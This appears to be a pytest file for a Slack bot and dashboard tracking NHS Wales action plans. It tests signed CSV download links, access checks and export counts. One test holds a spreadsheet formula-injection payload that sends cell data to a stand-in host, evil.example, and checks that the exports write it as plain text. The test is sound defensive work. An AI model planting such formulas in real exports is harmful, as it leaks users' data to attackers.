"""A long chat list links the CSV of the whole list; the link downloads exactly that list over real HTTP,
opens nothing else, and the all-Wales pages and export count every row of the actions table."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import httpx
from openpyxl import load_workbook
from sqlalchemy import func, select

from bot.plans.importer import import_plan
from bot.plans.models import Action
from bot.plans.reading import read_plan_file
from bot.plans.service import actions_owned_by
from bot.signed_links import dashboard_links
from commands.context import CommandContext
from commands.dispatch import answer
from commands.replies import Link, Reply
from tests.dashboard.live import LiveDashboard
from tests.helpers import ADMIN, person
from tests.test_cli import ESR_OVERDUE

NOW = datetime(2021, 1, 15, 9, 0, tzinfo=UTC)


def chat(live: LiveDashboard, text: str, email: str = ADMIN) -> Reply:
    """As asked in Slack by a person in the directory (strangers are answered nothing but one sentence)."""
    links = dashboard_links(live.settings)
    assert links is not None
    with live.database.unit_of_work() as session:
        actor = person(session, email)
        ctx = CommandContext(session=session, actor=actor, clock=live.clock, source="slack",
                             download_link=links.download)  # fmt: skip
        return answer(text, ctx)


def link_of(reply: Reply) -> str:
    found = [piece.url for s in reply.sections for ln in s.lines for piece in ln if isinstance(piece, Link)]
    assert len(found) == 1, reply
    return found[0]


def overdue_parts(reply: Reply) -> int:
    """How many overdue rows a reply's footer counts: "7 overdue actions (43 deliveries and occurrences)" counts 43."""
    words = " ".join((reply.footer or "").split())
    found = re.match(r"([\d,]+) overdue actions?(?: \(([\d,]+) deliveries and occurrences\))?", words)
    assert found is not None, words
    return int((found.group(2) or found.group(1)).replace(",", ""))


def rows_of(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


def test_a_long_list_links_a_csv_of_exactly_that_list(live: LiveDashboard) -> None:
    reply = chat(live, "overdue plan:esr")
    rows = rows_of(httpx.get(link_of(reply)))  # no cookie: the link carries its own signature
    assert sorted(r["Ref"] for r in rows) == ESR_OVERDUE
    assert {(r["Plan"], r["Delivery"]) for r in rows} == {("esr", "Overdue")}
    in_board = rows_of(httpx.get(link_of(chat(live, "overdue plan:esr org:cvuhb"))))
    assert sorted(r["Ref"] for r in in_board) == [r for r in ESR_OVERDUE if r.endswith("@cvuhb")]
    everything_reply = chat(live, "overdue")
    everything = rows_of(httpx.get(link_of(everything_reply)))
    assert len(everything) == overdue_parts(everything_reply)  # every overdue row, each delivery its own
    short = chat(live, "overdue plan:pacesetter lead:nobody-at-all")
    assert not [p for s in short.sections for ln in s.lines for p in ln if isinstance(p, Link)]


def test_mine_links_a_csv_of_everything_the_person_owns_or_helps_with(live: LiveDashboard) -> None:
    email = "cai.ynyr@example.nhs.wales"  # Cardiff and Vale's deliveries, and contributions to other actions
    rows = rows_of(httpx.get(link_of(chat(live, "mine", email))))
    with live.database.unit_of_work() as session:
        theirs = actions_owned_by(session=session, person=person(session, email))
        assert sorted((r["Plan"], r["Ref"]) for r in rows) == sorted((a.plan.key, a.ref) for a in theirs)
    assert len(rows) > 20 and any(r["Owner email"] != email for r in rows)  # contributions included


def test_a_download_link_opens_no_page_and_no_other_organisation(live: LiveDashboard) -> None:
    link = link_of(chat(live, "overdue plan:esr org:cvuhb"))
    assert "/dashboard/org/cvuhb/export/actions.csv?" in link
    as_page = httpx.get(link.replace("/export/actions.csv", ""))
    assert as_page.status_code == 401  # a download signature is not a dashboard session
    other_board = httpx.get(link.replace("/org/cvuhb/", "/org/bcuhb/"))
    assert other_board.status_code == 403
    assert httpx.get(link.replace("sig=", "sig=0")).status_code == 403
    for changed in (
        link.replace("&only=overdue", ""),
        link.replace("plan=esr", "plan=pacesetter"),
        link.replace("/export/actions.csv", "/export/escalation.csv"),
        link.replace("/export/actions.csv", "/export/actions.xlsx"),
    ):
        assert httpx.get(changed).status_code == 403, changed  # the link gives exactly its own file


def test_the_wales_view_counts_actions_nobody_holds_yet(live: LiveDashboard, tmp_path: Path) -> None:
    plan = tmp_path / "orphans.csv"
    plan.write_text("Ref,Action,Lead,Timeline\n1,Form a committee,A group to be named,June 2020\n2,Report,TBC,TBC\n")
    with live.database.unit_of_work() as session:
        import_plan(
            session=session, plan_file=read_plan_file(plan, key="orphans", name="Orphans", overrides={}), now=NOW
        )
        in_table = session.scalar(select(func.count()).select_from(Action))
    before = overdue_parts(chat(live, "overdue plan:esr"))  # a plan the orphans are not in
    for question in ("overdue", "overdue org:wales"):
        reply = chat(live, question)
        assert "(orphans)" in " ".join(s.heading or "" for s in reply.sections), question
    assert overdue_parts(chat(live, "overdue plan:esr")) == before
    with httpx.Client(base_url=live.url) as browser:
        browser.get(live.link("wales"), follow_redirects=True)
        exported = rows_of(browser.get("/dashboard/org/wales/export/actions.csv"))
        assert len(exported) == in_table
        assert [r["Owner"] for r in exported if r["Plan"] == "orphans"] == ["no owner yet"] * 2
        page = browser.get("/dashboard/org/wales").text
        parts = overdue_parts(chat(live, "overdue"))
        assert f"; {parts} deliveries and occurrences)" in page and "no owner yet (A group to be named)" in page
        assert "Orphans" in page and "No organisation yet</td>" in page
        overdue = rows_of(browser.get("/dashboard/org/wales/export/actions.csv?only=overdue"))
        assert len(overdue) == parts
        assert browser.get("/dashboard/org/wales/export/actions.csv?only=everything").status_code == 400


def test_dashboard_downloads_write_formula_like_titles_as_text(live: LiveDashboard, tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")'
    plan = tmp_path / "evil.csv"
    with plan.open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows([["Ref", "Action", "Lead", "Timeline"], ["1", evil, "-", "June 2020"]])
    with live.database.unit_of_work() as session:
        import_plan(session=session, plan_file=read_plan_file(plan, key="evil", name="Evil", overrides={}), now=NOW)
    with httpx.Client(base_url=live.url) as browser:
        browser.get(live.link("wales"), follow_redirects=True)
        rows = rows_of(browser.get("/dashboard/org/wales/export/actions.csv?plan=evil"))
        assert [r["Action"] for r in rows] == [f"'{evil}"]
        workbook = browser.get("/dashboard/org/wales/export/actions.xlsx?plan=evil")
    assert workbook.status_code == 200
    sheet = load_workbook(io.BytesIO(workbook.content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert evil in [c.value for c in cells] and not any(c.data_type == "f" for c in cells)
